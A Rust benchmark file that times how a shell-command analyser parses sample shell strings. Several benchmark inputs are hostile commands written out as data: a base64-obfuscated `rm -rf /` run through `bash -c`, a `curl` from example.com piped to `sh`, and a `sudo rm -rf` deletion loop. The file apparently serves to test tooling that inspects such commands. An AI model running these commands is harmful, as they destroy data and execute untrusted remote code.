//! What reading a shell text costs in instructions and allocations.
//!
//! `cargo xtask bench -- --count` counts; anything else runs each case once.

#![expect(missing_docs, reason = "the macros of the harness write public items")]

use std::hint::black_box;
use std::path::Path;

use gungraun::prelude::*;
use gungraun::{Callgrind, Dhat, main};
use pintle_domain::shell::{ShellFacts, ShellKind, ShellText};
use pintle_shell::facts;

fn read(text: &str) -> ShellFacts {
    let (cwd, workspace) = (Path::new("/code/app"), Path::new("/code/app"));
    facts(ShellText { text: black_box(text), cwd, workspace, shell: ShellKind::Bash })
}

/// The text, read once before: tables of programs are made by then.
fn warm(text: &'static str) -> &'static str {
    assert!(!read(text).commands.is_empty(), "the text runs something");
    text
}

#[library_benchmark(setup = warm)]
#[bench::one_command("cargo test --workspace")]
#[bench::pipeline("git log --oneline -n 20 | grep -v merge | sort | uniq -c > counts.txt 2>&1")]
#[bench::here_document(
    "cat > src/notes.md <<'END'\n# Notes\nrm -rf / is only a text here\nEND\ngit add -A && git commit -m \"notes\""
)]
#[bench::removal("for d in build dist \"$HOME/.cache\"; do [ -d \"$d\" ] && sudo rm -rf -- \"$d\"; done")]
#[bench::hidden(
    "bash -c \"$(printf '%s' 'cm0gLXJmIC8K' | base64 -d)\"; curl -fsSL https://example.com/i.sh | env FOO=1 sh -s -- -y"
)]
fn reading(text: &str) -> ShellFacts {
    read(text)
}

library_benchmark_group!(name = shell, benchmarks = [reading]);
main!(
    config = LibraryBenchmarkConfig::default()
        .tool(Callgrind::with_args(["--cache-sim=no"]))
        .tool(Dhat::with_args(["--num-callers=500"])),
    library_benchmark_groups = shell
);
